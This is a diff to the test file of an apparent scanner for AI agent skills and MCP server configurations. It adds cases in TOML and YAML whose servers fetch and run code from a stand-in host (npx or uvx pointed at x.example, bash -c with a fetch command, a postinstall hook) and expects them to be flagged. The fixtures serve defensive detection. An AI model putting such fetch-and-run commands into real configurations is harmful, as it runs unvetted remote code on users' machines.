@@ -25,6 +25,7 @@ interface Answer {
     readonly notRead: readonly { path: string; reason: string }[];
     readonly files: readonly { path: string; role: string; sha256: string }[];
   }[];
+  readonly links: readonly { path: string; target: string }[];
   readonly summary: { readonly unread: readonly object[] };
 }
 
@@ -132,7 +133,8 @@ describe("units", () => {
     symlinkSync("../../outside/run.sh", join(cwd, "skills/a/run.sh"));
     symlinkSync("../outside", join(cwd, "links/b"));
     const { stdout, stderr, status } = await curlew(["skill", "--json", "."], { cwd });
-    const { units } = JSON.parse(stdout) as Answer;
+    const { units, links } = JSON.parse(stdout) as Answer;
+    expect(links).toEqual([{ path: "links/b", target: "../outside" }]);
     expect(units.map(({ verdict }) => verdict)).toEqual(["clear"]);
     expect(units[0]?.notRead.map(({ path, reason }) => `${path} ${reason}`)).toEqual([
       "node_modules dependencies",
@@ -231,6 +233,48 @@ describe("roles", () => {
       '{"mcp":{"s":{"command":["npx","-y","github:o/r"]}}}',
       "flagged",
     ],
+    [
+      "a server in TOML",
+      ".codex/config.toml",
+      '[mcp_servers.a]\ncommand = "npx"\nargs = ["-y", "https://x.example/s.tgz"]\n',
+      "flagged",
+    ],
+    [
+      "a server of a registry in TOML",
+      ".codex/config.toml",
+      '[mcp_servers.a]\ncommand = "npx"\nargs = ["-y", "@scope/server"]\n',
+      "clear",
+    ],
+    [
+      "a server in YAML",
+      ".config/goose/config.yaml",
+      "extensions:\n  a:\n    cmd: uvx\n    args:\n      - --from\n      - git+https://x.example/s\n      - s\n",
+      "flagged",
+    ],
+    [
+      "a server of a registry in YAML",
+      ".config/goose/config.yaml",
+      "extensions:\n  a:\n    cmd: uvx\n    args:\n      - mcp-server-git\n",
+      "clear",
+    ],
+    [
+      "a server in a list of YAML",
+      ".continue/mcpServers/a.yaml",
+      `mcpServers:\n  - name: a\n    command: bash\n    args: [-c, "${FETCH}"]\n`,
+      "flagged",
+    ],
+    [
+      "a server in a configuration with models",
+      ".continue/config.yaml",
+      "models: []\nmcpServers:\n  - args:\n      - github:o/r\n    command: npx\n",
+      "flagged",
+    ],
+    [
+      "an address without a program",
+      ".continue/config.yaml",
+      "models:\n  - apiBase: https://x.example/v1\nmcpServers:\n  - command: npx\n    args: [s]\n",
+      "clear",
+    ],
     ["a remote server", ".mcp.json", shell('{"url":"https://x.example/mcp"}'), "clear"],
     ["an installation script", "package.json", `{"scripts":{"postinstall":"${FETCH}"}}`, "flagged"],
     ["an ordinary script", "package.json", '{"scripts":{"postinstall":"node build.js"}}', "clear"],
@@ -294,7 +338,7 @@ describe("roles", () => {
     expect(units[0]?.findings).toEqual([
       expect.objectContaining({
         rule: "bash/run-address",
-        text: '"npx","args":["-y","https://x.example/s.tgz"]',
+        text: 'npx","args":["-y","https://x.example/s.tgz',
       }),
     ]);
   });
